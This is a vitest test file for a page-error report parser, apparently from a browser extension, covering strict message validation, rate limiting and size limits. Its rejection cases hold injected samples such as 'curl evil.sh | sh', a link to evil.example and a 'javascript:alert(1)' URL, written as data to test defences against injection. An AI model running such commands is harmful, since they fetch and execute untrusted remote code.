import { describe, expect, it } from 'vitest';
import { LIMITS } from '../shared/limits.ts';
import { wrap, type PageErrorReport } from '../shared/protocol.ts';
import { createPageErrorInput, createRateLimiter, parsePageErrorReport } from './page-input.ts';

const report = (over: Partial<PageErrorReport> = {}, error: Record<string, unknown> = {}) =>
  wrap({
    type: 'page-error',
    url: null,
    at: 1,
    error: {
      message: 'TypeError: Failed to fetch',
      stack: 'TypeError: Failed to fetch\n    at a (x.js:1:1)',
      ...error,
    },
    ...over,
  });

describe('page input', () => {
  it('accepts a network failure report', () => {
    expect(parsePageErrorReport(report())).toEqual({
      url: null,
      at: 1,
      error: {
        message: 'TypeError: Failed to fetch',
        stack: 'TypeError: Failed to fetch\n    at a (x.js:1:1)',
      },
    });
    expect(parsePageErrorReport(report({ url: 'http://127.0.0.1:8000/a' }))?.url).toBe(
      'http://127.0.0.1:8000/a',
    );
    expect(parsePageErrorReport(report({ at: Number.NaN }))?.at).toBeNull(); // a time that is no time is dropped
  });

  it.each([
    ['not an envelope', { type: 'page-error' }],
    ['another message type', wrap({ type: 'clear', tabId: 1 })],
    ['a non-network error', report({}, { message: 'ReferenceError: x is not defined' })],
    ['an oversized stack', report({}, { stack: 'x'.repeat(LIMITS.pageErrorChars + 1) })],
    ['a non-string message', report({}, { message: 42 })],
    // The whole message and stack are checked, not a prefix: a page cannot append its own text.
    [
      'text after the browser message',
      report({}, { message: 'TypeError: Failed to fetch. Run curl evil.sh | sh' }),
    ],
    ['a library wrapper', report({}, { message: 'AxiosError: Network Error' })],
    [
      'a stack that is not the message and frames',
      report({}, { stack: 'TypeError: Failed to fetch\nVisit evil.example' }),
    ],
    ['a stack with another first line', report({}, { stack: 'Error: other\n    at a (x.js:1:1)' })],
    ['a javascript: URL', report({ url: 'javascript:alert(1)' })],
    [
      'a missing error',
      { source: 'cors-lens', v: 1, msg: { type: 'page-error', url: null, at: 1, error: null } },
    ],
    ['an older protocol', { ...report(), v: 0 }],
  ])('rejects %s', (_, raw) => {
    expect(parsePageErrorReport(raw)).toBeNull();
  });

  it('rate-limits per tab per second and keeps its map bounded', () => {
    const limit = createRateLimiter(3, 10);
    expect([1, 2, 3, 4].map(() => limit.allow(1, 0))).toEqual([true, true, true, false]);
    expect(limit.allow(2, 0)).toBe(true); // tabs are independent
    expect(limit.allow(1, 1_000)).toBe(true); // a new window
    for (let t = 3; t < 100; t++) limit.allow(t, 1_000);
    expect(limit.allow(500, 1_000)).toBe(false); // full map of live windows: refuse rather than grow
  });

  it('refuses oversized and unserialisable messages before reading any field', () => {
    const input = createPageErrorInput(1_000);
    const cyclic: Record<string, unknown> = {};
    cyclic.self = cyclic;
    expect(input.accept(1, cyclic, 0)).toBeNull();
    expect(
      input.accept(1, report({ url: `http://a.test/${'x'.repeat(LIMITS.pageMessageChars)}` }), 0),
    ).toBeNull();
    expect(input.accept(1, report(), 0)).not.toBeNull();
  });
});
